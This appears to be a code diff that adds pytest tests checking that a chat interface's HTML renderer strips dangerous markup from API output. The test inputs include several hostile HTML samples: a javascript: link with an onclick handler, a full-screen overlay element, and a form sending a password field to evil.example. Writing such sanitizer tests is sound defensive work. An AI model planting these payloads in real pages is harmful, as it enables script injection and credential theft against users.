@@ -45,6 +45,35 @@ def test_no_text_can_load_or_run_anything(
     assert "href=" not in re.sub(r"&lt;.*?&gt;", "", markup)
 
 
+@pytest.mark.parametrize(
+    "markup",
+    [
+        *HOSTILE,
+        '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+        '<a href="/gradio_api/reset">x</a>',
+        '<p style="position:fixed;inset:0" class="typing" id="send">x</p>',
+        '<form action="https://evil.example"><input name="password"></form>',
+    ],
+)
+def test_no_html_of_an_api_can_load_run_or_cover_anything(markup: str) -> None:
+    shown = rendering.growing_html("x", markup)
+
+    tags = " ".join(re.findall(r"<[^>]*>", shown))
+    assert set(re.findall(r"<(\w+)", tags)) <= {"div", "p", "a"}
+    assert set(re.findall(r"(\w+)=", tags)) <= {"class", "rel", "target", "title"}
+    assert set(re.findall(r'class="([^"]*)"', tags)) == {"sr-only", "answer"}
+
+
+def test_html_of_the_api_stays_as_it_is() -> None:
+    markup = (
+        '<ol start="3"><li>See <a href="https://shop.example" title="t" '
+        'target="_blank" rel="noopener noreferrer nofollow">shop</a></li></ol>'
+        "<table><thead><tr><th>a</th></tr></thead></table><pre><code>b</code></pre>"
+    )
+
+    assert markup in rendering.growing_html("x", markup)
+
+
 def test_the_customers_words_stay_as_they_were_typed() -> None:
     markup = rendering.customer_html("**5** < 6 & [x](y)\n# not a title")
 
